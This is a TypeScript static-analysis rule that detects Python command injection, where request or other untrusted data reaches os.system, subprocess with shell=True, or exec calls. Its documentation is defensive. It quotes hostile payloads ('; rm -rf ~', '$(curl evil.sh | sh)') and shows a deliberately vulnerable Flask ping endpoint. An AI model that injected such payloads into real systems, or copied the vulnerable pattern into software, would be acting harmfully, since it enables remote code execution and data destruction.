import type { Node } from '../../engine/parser';
import { defineRule } from '../../engine/rule';
import { SinkKind } from '../../engine/taint';
import { callArgs, isTrue, unparen } from '../../engine/syntax';
import { FLOW_NOTE, reportFlows } from './report';

const SHELL_CALLS = new Set(['os.system', 'os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'asyncio.create_subprocess_shell', 'pty.spawn']);
const SUBPROCESS_CALLS = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen', 'asyncio.create_subprocess_exec']);
const EXEC_CALLS = /^os\.(exec|spawn)[lv]p?e?$/;

export default defineRule({
  id: 'SEC902',
  name: 'tainted-shell-command',
  summary: 'Request data or other untrusted input reaches an operating system command',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [78],
  severity: 'error',
  confidence: 'high',
  tags: ['dataflow', 'subprocess', 'flask', 'django', 'fastapi'],
  nodeTypes: ['call'],
  check(call, ctx) {
    const name = ctx.callName(call);
    if (!name) return;
    const args = callArgs(call);
    const first = args.positional[0] ?? args.keywords.get('args') ?? args.keywords.get('command') ?? args.keywords.get('cmd') ?? null;
    if (!first) return;
    const label = `\`${name}()\``;
    if (SHELL_CALLS.has(name)) {
      reportFlows(ctx, first, first, SinkKind.command, `the shell command of ${label}`);
      return;
    }
    let program: Node | null = null;
    if (SUBPROCESS_CALLS.has(name)) {
      if (isTrue(args.keywords.get('shell'))) {
        reportFlows(ctx, first, first, SinkKind.command, `the shell command of ${label} (\`shell=True\`)`);
        return;
      }
      // Without a shell only the program itself is dangerous: arguments are passed as they are.
      const v = unparen(first);
      program = v.type === 'list' || v.type === 'tuple' ? v.namedChildren.find((c) => c && c.type !== 'comment') ?? null : name === 'asyncio.create_subprocess_exec' ? first : v.type === 'string' ? v : null;
    } else if (EXEC_CALLS.test(name)) {
      program = args.positional[name.startsWith('os.spawn') ? 1 : 0] ?? null;
    }
    if (program) reportFlows(ctx, program, program, SinkKind.command, `the program run by ${label}`);
  },
  docs: {
    what: 'Reports untrusted data (request data, route parameters, `sys.argv`, `input()`, the environment) that reaches a command run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `asyncio.create_subprocess_shell`) or that chooses the program a `subprocess`/`os.exec*` call runs. `shlex.quote()` makes a value safe inside a shell command; arguments of a list-form command without a shell are not reported. SEC602 and its relatives still report shell use with constant commands; this rule says when a user controls the command.' + FLOW_NOTE,
    why: 'A shell parses its command line: `; rm -rf ~`, `$(curl evil.sh | sh)` or a backquote in a value from a request runs the attacker\'s commands with the server\'s rights.',
    example: `import subprocess
from flask import request

@app.route("/ping")
def ping():
    host = request.args["host"]
    return subprocess.check_output(f"ping -c 1 {host}", shell=True)`,
    useInstead: `@app.route("/ping")
def ping():
    host = request.args["host"]
    return subprocess.check_output(["ping", "-c", "1", "--", host])`,
    references: [{ title: 'OWASP OS Command Injection Defense Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html' }],
  },
});
